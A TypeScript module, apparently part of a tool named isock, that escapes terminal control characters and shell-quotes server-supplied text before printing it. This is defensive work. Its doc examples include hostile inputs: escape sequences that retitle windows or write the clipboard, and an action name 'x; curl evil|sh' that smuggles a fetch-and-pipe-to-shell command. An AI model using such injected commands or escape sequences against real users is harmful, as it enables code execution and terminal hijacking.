/**
 * Text from a server, made safe to print. A server names its actions,
 * writes its schemas and its errors' messages, and `isock` prints them: a
 * hostile one could put terminal controls in them (`ESC ]0` retitles the
 * window, `ESC ]52` writes the clipboard, `ESC [2J` clears the screen, a CR
 * overwrites the line). Every printer of `isock` passes what it prints
 * through {@linkcode printable} or {@linkcode printableJson}, so every
 * control character reaches the terminal as a visible escape and nothing
 * else changes.
 *
 * @module
 */

/** C0 controls (CR, LF, ESC, BEL included), DEL and C1 controls: what a terminal may act on. */
// deno-lint-ignore no-control-regex -- matching them is the point.
const CONTROLS = /[\x00-\x1f\x7f-\x9f]/g;

/** What JSON.stringify leaves as it is: DEL and C1 (it escapes C0 itself). */
const JSON_UNESCAPED = /[\x7f-\x9f]/g;

const NAMED: Readonly<Record<string, string>> = {
  "\n": "\\n",
  "\r": "\\r",
  "\t": "\\t",
};

/**
 * The text with every control character escaped: `\n`, `\r`, `\t`, `\x1b`
 * for the other C0 controls and DEL, `\u009b` for the C1 controls. Other
 * characters, Unicode included, stay; escaping twice changes nothing more.
 *
 * @example
 * ```ts
 * import { printable } from "./printable.ts";
 * import assert from "node:assert/strict";
 *
 * assert.equal(printable("évil\x1b]0;title\x07\r\u009b"), "évil\\x1b]0;title\\x07\\r\\u009b");
 * assert.equal(printable(printable("a\nb")), "a\\nb");
 * ```
 *
 * @param text Text from a server.
 * @returns It, safe to print.
 */
export function printable(text: string): string {
  return text.replace(CONTROLS, escape);
}

/** What a POSIX shell takes as one word, as it is: no quoting needed. */
const SHELL_WORD = /^[A-Za-z0-9._:/@-]+$/;

/**
 * The text, {@linkcode printable}, as one word to paste into a POSIX
 * shell: as it is when every character is one of `A-Za-z0-9._:/@-`, in
 * single quotes otherwise (a `'` written `'\''`), so that a server's
 * action named `x; curl evil|sh` is shown as a name, never as commands.
 *
 * @example
 * ```ts
 * import { shellWord } from "./printable.ts";
 * import assert from "node:assert/strict";
 *
 * assert.equal(shellWord("users.get"), "users.get");
 * assert.equal(shellWord("x; curl evil|sh"), "'x; curl evil|sh'");
 * assert.equal(shellWord("it's"), "'it'\\''s'");
 * assert.equal(shellWord(""), "''");
 * ```
 *
 * @param text Text from a server.
 * @returns It, safe to print and to paste as one shell word.
 */
export function shellWord(text: string): string {
  const shown = printable(text);
  return SHELL_WORD.test(shown) ? shown : `'${shown.replaceAll("'", "'\\''")}'`;
}

/**
 * A value as JSON that is safe to print: `JSON.stringify` escapes C0
 * controls but leaves DEL and the C1 controls raw, so those are escaped too
 * (`\u007f`, `\u009b`: the same string to a JSON reader). A value that
 * JSON cannot hold (a `bigint`, a `Map`, bytes) goes through isock's JSON
 * mapping (`valueToJson`) first.
 *
 * @example
 * ```ts
 * import { printableJson } from "./printable.ts";
 * import assert from "node:assert/strict";
 *
 * const text = printableJson({ name: "a\x1b\u009b\x7f", count: 10 });
 * assert.equal(text, '{"name":"a\\u001b\\u009b\\u007f","count":10}');
 * assert.deepEqual(JSON.parse(text).name, "a\x1b\u009b\x7f");
 * ```
 *
 * @param value The value (from a server, or holding what a server sent).
 * @param indent Spaces to indent by; none for one line.
 * @returns The JSON text.
 */
export function printableJson(value: unknown, indent?: number): string {
  const text = JSON.stringify(value, undefined, indent) ?? "null";
  return text.replace(JSON_UNESCAPED, unicodeEscape);
}

function escape(character: string): string {
  const code = character.charCodeAt(0);
  return NAMED[character] ??
    (code < 0x80
      ? `\\x${code.toString(16).padStart(2, "0")}`
      : unicodeEscape(character));
}

function unicodeEscape(character: string): string {
  return `\\u${character.charCodeAt(0).toString(16).padStart(4, "0")}`;
}
